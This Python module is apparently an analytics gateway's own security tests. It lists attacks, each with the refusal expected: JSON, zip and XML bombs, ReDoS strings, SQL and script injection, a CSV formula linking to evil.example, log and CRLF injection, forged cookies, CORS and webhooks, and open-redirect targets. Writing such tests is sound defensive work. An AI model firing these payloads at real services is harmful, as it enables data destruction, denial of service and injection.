"""Attacks through what an event carries: bombs, slow patterns, words of other languages (SQL, HTML, CSV, logs)."""

from __future__ import annotations

import csv
import gzip
import io
import time

import orjson

from tests.attacks.attack import CANARY, CONSENT, Arena, Attack, signed

SQL = "x'); DROP TABLE gateway.events; --" + CANARY
HTML = "<script>alert('" + CANARY + "')</script>"
FORMULA = '=HYPERLINK("http://evil.example/' + CANARY + '")'
LOG = '\r\n{"level":"critical","say":"' + CANARY + '"}'


def _seconds(arena: Arena, body: bytes, **headers: str) -> str:
    """The status, and whether it took less than 2 s."""
    began = time.monotonic()
    status = arena.hit(body, **headers).status_code
    return f"{status} at once" if time.monotonic() - began < 2 else f"{status} slowly"


def _own(**event: object) -> bytes:
    return orjson.dumps({"site": "shop", "consent": CONSENT, "events": [{"event": "product_view", **event}]})


def _keys(arena: Arena) -> str:
    """Keys whose hashes would collide in a table with a known hash function (multiples of 2^61 - 1)."""
    names = [str(number * ((1 << 61) - 1)) for number in range(8_000)]
    return _seconds(arena, _own(properties=dict.fromkeys(names, 1)))


def _slow_patterns(arena: Arena) -> str:
    texts = ["a" * 8_000 + "@", "1-" * 8_000, "(" * 8_000, "a@" * 8_000, "+" + "1 " * 8_000, "." * 8_000 + "com"]
    seen = {_seconds(arena, _own(properties={"search_term": text, "product_id": text})) for text in texts}
    agent = "Mozilla/5.0 (" + "A; " * 4_000 + ") AppleWebKit/" + "1" * 4_000
    return " and ".join(sorted(seen | {_seconds(arena, _own(), **{"user-agent": agent})}))


def _words_of_others(arena: Arena) -> str:
    """In every place that becomes a column or a cell."""
    for text in (SQL, HTML, FORMULA, LOG, "@SUM(1)", "+1+1", "-1+1", "\t=1"):
        page = {
            "url": f"https://www.shop.example/x?utm_source={text}&utm_campaign={text}",
            "referrer": f"https://{text}/",
        }
        shown = {"product_id": text, "seller_id": text, "category": text, "search_term": text}
        seen = arena.event(event=text, client_id=text, page=page, properties=shown).status_code
        also = arena.event(client_id=text, page=page, properties=shown).status_code
        if {seen, also} != {204}:
            return f"{seen} {also}"
    return "204"


def _tables_stand(arena: Arena) -> str:
    return f"{len(arena.served.ask('SELECT count() FROM gateway.events'))} row"


def _html(arena: Arena) -> str:
    with arena.as_analyst() as client:
        pages = [
            client.get(f"{arena.served.admin}/reports/{name}").text for name in ("overview", "attribution", "micro")
        ]
    return "markup" if any("<script" in page for page in pages) else "escaped"


def _formulas(arena: Arena) -> str:
    with arena.as_analyst() as client:
        names = ("overview", "micro", "attribution", "sellers", "quality")
        files = [client.get(f"{arena.served.admin}/reports/{name}?format=csv").text for name in names]
    cells = [cell for file in files for row in csv.reader(io.StringIO(file)) for cell in row]
    return "formulas" if any(cell[:1] in "=@\t\r" and cell for cell in cells) else "text"


def _cookie(arena: Arena) -> str:
    forged = f'_gw=20779.{CANARY}; _gw=x"; Path=/; _gw={"a" * 8_000}'
    answer = arena.hit(_own(), cookie=forged, origin="https://www.shop.example")
    return "echoed" if CANARY in str(answer.headers) else str(answer.status_code)


def _origin(origin: str) -> Attack:
    def make(arena: Arena) -> str:
        answer = arena.hit(_own(), origin=origin)
        with arena.client(origin=origin) as client:
            asked = {"access-control-request-method": "POST", "access-control-request-headers": "x"}
            preflight = client.options(arena.served.url + "/collect", headers=asked)
        named = "access-control-allow-origin" in {**answer.headers, **preflight.headers}
        return "admitted" if named else str(answer.headers["x-gateway-outcome"])

    return Attack(f"CORS from {origin}", "with credentials, and its preflight", ("facts=0 refused=1",), make)


def _forget(name: str, sent: str, key: str, origin: str) -> Attack:
    """A tracker's call to delete somebody, under a key or from a page that is not the site's."""

    def make(arena: Arena) -> str:
        kept = "SELECT count() FROM gateway.events WHERE event = 'wishlist_add'"
        before = arena.served.ask(kept)[0][0]
        arena.event(event="wishlist_add", client_id="victim")
        call = orjson.dumps([{"$token": key, "$distinct_id": "victim", "$delete": ""}])
        with arena.client(origin=origin) as client:
            answer = client.post(arena.served.url + "/engage", data={"data": call.decode()})
        arena.event(event="wishlist_add", client_id="another")
        arena.served.wait_for(kept, before + 2)
        orders = arena.served.ask("SELECT count() FROM gateway.erasure_orders")[0][0]
        return f"{answer.status_code} {answer.headers['x-gateway-outcome']}, {orders} orders"

    return Attack(name, sent, ("400 facts=0 refused=1, 0 orders",), make)


def _redirect(target: str) -> Attack:
    def make(arena: Arena) -> str:
        with arena.client() as client:
            answer = client.get(arena.served.url + "/r/news", params={"u": target})
        return str(answer.headers.get("location", answer.status_code))

    return Attack("open redirect", f"/r/news?u={target[:44]}", ("400",), make)


def _hook(name: str, sent: str, right: str, at_s: float = 0, key: bytes = b"", times: int = 1) -> Attack:
    def make(arena: Arena) -> str:
        body = orjson.dumps({"type": "invoice", "data": {"consent": CONSENT, "client_id": CANARY}})
        headers = signed(body, f"msg_{name}", time.time() + at_s, *([key] if key else []))
        with arena.client(**headers) as client:
            seen = [client.post(arena.served.url + "/hooks/billing", content=body) for _ in range(times)]
        return " ".join(f"{a.status_code} {a.headers['x-gateway-outcome']}" for a in seen[-1:])

    return Attack(name, sent, (right,), make)


def _body(name: str, sent: str, body: bytes, *right: str, **headers: str) -> Attack:
    return Attack(name, sent, right, lambda arena: _seconds(arena, body, **headers))


ATTACKS = (
    _body("JSON bomb: depth", "512 KB of [", b"[" * 500_000, "400 at once"),
    _body("JSON bomb: depth in objects", '100,000 x {"a":', b'{"a":' * 100_000, "400 at once"),
    _body("JSON bomb: width", "500 KB of zeros", b"[" + b"0," * 250_000 + b"0]", "400 at once"),
    _body(
        "a number of 400,000 digits",
        "1111…",
        b'{"site":"shop","events":[' + b"1" * 400_000 + b"]}",
        "204 at once",
        "400 at once",
    ),
    _body(
        "1e400000",
        "in value",
        _own(properties={"value": "@"}).replace(b'"@"', b"1e400000"),
        "204 at once",
        "400 at once",
    ),
    _body(
        "a name twice",
        '"site": "shop", "site": "demo"',
        b'{"site":"shop","site":"demo","events":[{"event":"a"}]}',
        "400 at once",
    ),
    _body(
        "half a surrogate", "\\ud800", b'{"site":"shop","events":[{"event":"\\ud800"}]}', "204 at once", "400 at once"
    ),
    _body(
        "zip bomb",
        "60 MB of blanks in 60 KB",
        gzip.compress(b" " * 60_000_000),
        "413 at once",
        **{"content-encoding": "gzip"},
    ),
    _body(
        "zip bomb of bombs",
        "gzip, gzip",
        gzip.compress(gzip.compress(b" " * 50_000_000)),
        "400 at once",
        "415 at once",
        **{"content-encoding": "gzip, gzip"},
    ),
    _body(
        "a billion laughs",
        "XML entities",
        b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>',
        "400 at once",
        **{"content-type": "application/xml"},
    ),
    _body(
        "__proto__", "as a property", _own(properties={"__proto__": {"admin": True}, "constructor": 1}), "204 at once"
    ),
    _body("another site's key", "site: other", b'{"site":"other","events":[{"event":"a"}]}', "400 at once"),
    Attack("hash-collision keys", "8,000 of them", ("204 at once",), _keys),
    Attack("ReDoS", "texts of 8 KB for mails, phones, cards, hosts, agents", ("204 at once",), _slow_patterns),
    Attack("SQL, HTML, formulas and log lines", "in every place of an event", ("204",), _words_of_others),
    Attack("… the tables stand", "SELECT count()", ("1 row",), _tables_stand),
    Attack("… the pages show it as text", "reports as HTML", ("escaped",), _html),
    Attack("… the files hold no formula", "reports as CSV", ("text",), _formulas),
    Attack("a forged cookie", "_gw three times, 8 KB", ("204",), _cookie),
    *map(_origin, ("https://evil.example", "null", "https://www.shop.example.evil.example", "http://www.shop.example")),
    _forget("$delete, forged", "with another site's key", "wk_other", "https://www.shop.example"),
    _forget("$delete from another page", "with the site's key", "wk_shop", "https://evil.example"),
    *map(
        _redirect,
        (
            "https://evil.example",
            "//evil.example",
            "https://www.shop.example@evil.example/",
            "https:\\\\evil.example",
            "javascript:alert(1)",
            "https://www.shop.example\r\nSet-Cookie: a=b",
        ),
    ),
    _hook("webhook, forged", "signed with another key", "401 facts=0 refused=1", key=b"another-key"),
    _hook("webhook, late", "signed an hour ago", "401 facts=0 refused=1", at_s=-3600),
    _hook("webhook, replayed", "the same delivery three times", "200 facts=0 refused=1", times=3),
)
